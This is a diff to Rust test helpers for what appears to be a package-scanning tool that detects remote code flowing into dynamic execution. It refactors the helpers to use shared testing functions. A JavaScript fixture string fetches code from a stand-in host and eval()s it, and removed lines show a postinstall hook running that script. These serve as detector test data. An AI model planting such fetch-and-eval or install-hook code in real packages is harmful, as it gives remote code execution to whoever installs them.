@@ -1,18 +1,9 @@
-use crate::flow::analyse;
-use crate::package::Package;
-use crate::unpack::{Entry, Tree, text_file as file};
-use customs_model::{SinkKind, SourceKind, Zone};
+use crate::flow::testing::{remote_code, script, wheel};
+use crate::unpack::{Entry, text_file as file};
+use customs_model::Zone;
 
 fn runs(entries: Vec<Entry>) -> bool {
-    let found = analyse(&Package::new(&Tree {
-        entries,
-        ..Tree::default()
-    }));
-    found.flows.iter().any(|flow| {
-        flow.source == SourceKind::Remote
-            && flow.sink == SinkKind::DynamicCode
-            && flow.zone > Zone::Command
-    })
+    remote_code(entries) > Some(Zone::Command)
 }
 
 const PYTHON: &str = "\
@@ -23,23 +14,15 @@ def go(*more):
 ";
 
 fn python(code: &str, other: &str) -> bool {
-    runs(vec![
-        file("a/__init__.py", &format!("{PYTHON}{code}")),
-        file("a/b.py", &format!("{PYTHON}{other}")),
-        file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
-    ])
+    let mut entries = wheel(&format!("{PYTHON}{code}"));
+    entries.push(file("a/b.py", &format!("{PYTHON}{other}")));
+    runs(entries)
 }
 
 fn javascript(code: &str) -> bool {
     let go = "const go = () => require('https').get('https://a.invalid/b', (r) => {
             let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)) });";
-    runs(vec![
-        file(
-            "package.json",
-            r#"{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}"#,
-        ),
-        file("i.js", &format!("{go}\n{code}")),
-    ])
+    runs(script(&format!("{go}\n{code}")))
 }
 
 #[test]
